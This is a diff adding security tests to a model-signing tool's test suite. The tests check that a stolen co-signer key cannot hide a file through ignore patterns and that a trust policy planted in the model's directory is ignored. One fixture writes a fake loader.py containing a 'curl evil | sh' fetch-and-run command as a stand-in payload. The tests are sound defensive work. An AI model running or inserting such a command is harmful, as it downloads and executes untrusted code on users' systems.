@@ -5,7 +5,7 @@
  * one attack and what stops it, including where a defence needs the operator's help.
  */
 import assert from 'node:assert/strict';
-import { writeFileSync } from 'node:fs';
+import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, test } from 'node:test';
 import { createSignatureFile, decodeEnvelope, decodeManifest, generateSecretKey, secretKeySigner } from '@ms-sign/core';
@@ -102,5 +102,73 @@ describe('a substituted model', () => {
     assertCodes(await w.verify(), 0, []);
     // ...unless the loader says which model it expects.
     assertCodes(await w.verify('--name', 'acme/classifier'), 1, ['NAME_MISMATCH']);
+  });
+});
+
+describe('a compromised co-signer', () => {
+  test('cannot get a file past a threshold-2 rule with ignore patterns the other publisher never saw', async (t) => {
+    const w = await world(t);
+    await must(['trust', 'rule', '**', '--threshold', '2', '-t', 'trust.json'], w.dir);
+    mkdirSync(join(w.dir, 'bundle'));
+    writeFileSync(join(w.dir, 'bundle', 'weights.bin'), 'weights');
+    writeFileSync(join(w.dir, 'bundle', 'loader.py'), 'import os; os.system("curl evil | sh")');
+    // acme's key is stolen: the thief leaves its payload out of the manifest with an ignore pattern.
+    await must(['sign', 'bundle', '-k', w.a.secretPath, '--ignore', 'loader.py'], w.dir);
+    // beta co-signs as it always does: refused, and told what it would vouch for.
+    const cosign = await runCli(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--json'], { cwd: w.dir });
+    assertCodes(cosign, 2, ['IGNORE_MISMATCH']);
+    assert.match(cosign.json<{ errors: { message: string }[] }>().errors[0]!.message, /1 file .*"loader\.py"/);
+    const verify = () => runCli(['verify', 'bundle', '-t', 'trust.json', '--json'], { cwd: w.dir });
+    assertCodes(await verify(), 1, ['THRESHOLD_NOT_MET']);
+    // Another list is refused too; the same list, or --accept-ignores, is a choice made knowingly.
+    assertCodes(await runCli(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--ignore', '*.tmp', '--json'], { cwd: w.dir }), 2, ['IGNORE_MISMATCH']);
+    const knowingly = await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--ignore', 'loader.py'], w.dir);
+    assert.match(knowingly.stdout, /Ignored \(not covered\): loader\.py/);
+    // verify says which patterns it applied, in text and in --json.
+    const report = await verify();
+    assertCodes(report, 0, []);
+    assert.deepEqual(report.json<{ ignore: string[] }>().ignore, ['loader.py']);
+    const text = await runCli(['verify', 'bundle', '-t', 'trust.json'], { cwd: w.dir });
+    assert.match(text.stdout, /ignored: +loader\.py \(not covered\)/);
+  });
+
+  test('--accept-ignores co-signs the recorded patterns as they are; a manifest without patterns needs neither flag', async (t) => {
+    const w = await world(t);
+    mkdirSync(join(w.dir, 'bundle'));
+    writeFileSync(join(w.dir, 'bundle', 'weights.bin'), 'weights');
+    writeFileSync(join(w.dir, 'bundle', 'notes.tmp'), 'scratch');
+    await must(['sign', 'bundle', '-k', w.a.secretPath, '--ignore', '*.tmp', '-o', 'a.sig'], w.dir);
+    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '--accept-ignores', '-o', 'a.sig'], w.dir);
+    // The signature file inside the model is left out by a pattern sign records itself: no flag needed.
+    await must(['sign', 'bundle', '-k', w.a.secretPath, '-o', 'bundle/bundle.sig', '--ignore', '*.tmp'], w.dir);
+    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '-o', 'bundle/bundle.sig', '--ignore', '*.tmp'], w.dir);
+    rmSync(join(w.dir, 'bundle', 'notes.tmp'));
+    await must(['sign', 'bundle', '-k', w.a.secretPath, '-o', 'plain.sig'], w.dir);
+    await must(['sign', 'bundle', '-k', w.b.secretPath, '--append', '-o', 'plain.sig'], w.dir);
+  });
+});
+
+describe('a planted trust policy', () => {
+  test('a ./.ms-sign/trust.json planted in the working directory, the model\'s, is never used: the user\'s policy applies', async (t) => {
+    const w = await world(t);
+    // The operator's own policy, where verify looks for it without -t.
+    const userPolicy = join(w.dir, '.config-home', 'ms-sign', 'trust.json');
+    mkdirSync(join(userPolicy, '..'), { recursive: true });
+    writeFileSync(userPolicy, readFileSync(join(w.dir, 'trust.json')));
+    // The attacker signs the bundle with its own key and ships a policy trusting that key, in
+    // the directory the operator runs verify from, which is also the model's.
+    const evil = await writeKeyFiles(w.dir, generateSecretKey(), 'evil');
+    await w.sign(evil);
+    const planted = join(w.dir, '.ms-sign', 'trust.json');
+    mkdirSync(join(planted, '..'));
+    await must(['trust', 'init', '-t', planted], w.dir);
+    await must(['trust', 'add', 'attacker', '-p', evil.publicPath, '-t', planted], w.dir);
+    assertCodes(await runCli(['verify', 'model.ms', '-t', planted, '--json'], { cwd: w.dir }), 0, [], 'the planted policy does trust the attacker');
+    const r = await runCli(['verify', 'model.ms', '--json'], { cwd: w.dir });
+    assertCodes(r, 1, ['UNTRUSTED_SIGNER']);
+    assert.deepEqual(r.json<{ policy: { source: string; origin: string } }>().policy, { source: userPolicy, origin: '$XDG_CONFIG_HOME/ms-sign/trust.json', rule: null });
+    // Without a policy of the operator's, the planted one is still not found: nothing to trust.
+    rmSync(userPolicy);
+    assertCodes(await runCli(['verify', 'model.ms', '--json'], { cwd: w.dir }), 2, ['NO_TRUST_ANCHOR']);
   });
 });
